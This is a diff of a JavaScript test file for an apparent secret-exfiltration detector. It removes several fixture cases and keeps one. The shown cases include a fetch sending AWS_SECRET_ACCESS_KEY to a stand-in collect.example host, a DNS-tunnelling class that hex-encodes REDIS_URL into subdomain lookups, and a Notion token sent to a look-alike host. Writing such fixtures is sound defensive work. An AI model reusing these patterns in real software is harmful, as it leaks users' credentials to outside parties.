@@ -40,46 +40,8 @@ export default defineCases({
       name: 'in the address, to an address without a name',
       code: "fetch('http://203.0.113.9.collect.example/?k=' + process.env.AWS_SECRET_ACCESS_KEY)",
     },
-    {
-      name: 'in names that are looked up, by a class that another module has',
-      files: {
-        'index.js':
-          "const { Health } = require('./health');\nconst health = new Health(1000, new URL(process.env.REDIS_URL));\nexports.check = () => health.probe()",
-        'health.js':
-          "const dns = require('dns/promises');\nclass Health { constructor(ms, url) { this.url = url }\n  async probe() { const parts = Buffer.from(this.url.href).toString('hex').match(/.{1,60}/g); await Promise.all(parts.map((part, i) => dns.resolve4(`${i}.${part}.t.collect.example`))) } }\nmodule.exports = { Health }",
-      },
-    },
-    {
-      name: 'by an exported class that is made with it',
-      manifest: { type: 'module' },
-      files: {
-        'index.js':
-          "import { Notes } from './notes.js';\nconst notes = new Notes(process.env.NOTION_TOKEN);\nexport const find = (q) => notes.find(q)",
-        'notes.js':
-          "export class Notes { constructor(key) { this.headers = { authorization: `Bearer ${key}` } }\n  find(q) { return fetch('https://notes.collect.example/v1', { method: 'POST', headers: this.headers, body: q }) } }",
-      },
-    },
   ],
   ok: [
-    {
-      name: 'an exported class that is made with it, and logs in to its vendor',
-      manifest: { type: 'module' },
-      files: {
-        'index.js':
-          "import { Notes } from './notes.js';\nconst notes = new Notes(process.env.NOTION_TOKEN);\nexport const find = (q) => notes.find(q)",
-        'notes.js':
-          "export class Notes { constructor(key) { this.headers = { authorization: `Bearer ${key}` } }\n  find(q) { return fetch('https://api.notion.com/v1/search', { method: 'POST', headers: this.headers, body: q }) } }",
-      },
-    },
-    {
-      name: 'a class that looks up the host of a database, and whether there is a network at all',
-      files: {
-        'index.js':
-          "const { Health } = require('./health');\nconst health = new Health(1000, new URL(process.env.REDIS_URL));\nexports.check = () => health.probe()",
-        'health.js':
-          "const dns = require('dns/promises');\nclass Health { constructor(ms, url) { this.url = url }\n  async probe() { await dns.resolve4('ping.status.example'); return dns.resolve4(this.url.hostname) } }\nmodule.exports = { Health }",
-      },
-    },
     {
       name: 'a client that another module makes for the vendor',
       files: {
